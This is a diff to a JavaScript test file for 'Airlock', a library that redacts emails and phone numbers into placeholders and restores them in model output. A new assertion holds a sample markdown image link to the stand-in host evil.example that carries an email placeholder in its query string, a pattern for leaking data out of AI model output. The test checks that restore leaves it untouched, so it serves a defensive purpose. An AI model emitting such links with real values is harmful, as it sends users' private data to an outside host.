@@ -18,8 +18,15 @@ test('redact and restore round-trip, same value same placeholder', () => {
   const a = new Airlock();
   const out = a.redact('a@example.com, +44 20 7946 0958, again a@example.com');
   assert.equal(out, '[EMAIL_ADDRESS_1], [PHONE_NUMBER_1], again [EMAIL_ADDRESS_1]');
-  assert.equal(a.restore('Sure, I wrote to EMAIL_ADDRESS_1 and [phone_number_1].'),
+  assert.equal(a.restore('Sure, I wrote to EMAIL_ADDRESS_1 and [PHONE_NUMBER_1].'),
     'Sure, I wrote to a@example.com and +44 20 7946 0958.');
+  // Only the forms a model echoes: a changed case is not read, nor is a URL written into.
+  assert.equal(a.restore('[phone_number_1] ![x](https://evil.example/?e=[EMAIL_ADDRESS_1])'),
+    '[phone_number_1] ![x](https://evil.example/?e=[EMAIL_ADDRESS_1])');
+  a.setRestoreOptions({ urlSchemes: ['mailto'] });
+  assert.equal(a.restore('[mail](mailto:[EMAIL_ADDRESS_1])'), '[mail](mailto:a@example.com)');
+  assert.throws(() => a.setRestoreOptions({ urlOrigins: ['evil.example'] }), /urlOrigins\[0\]/);
+  assert.throws(() => a.setRestoreOptions({ anywhere: true }), /anywhere/);
 });
 
 test('streaming restore handles placeholders split across chunks', () => {
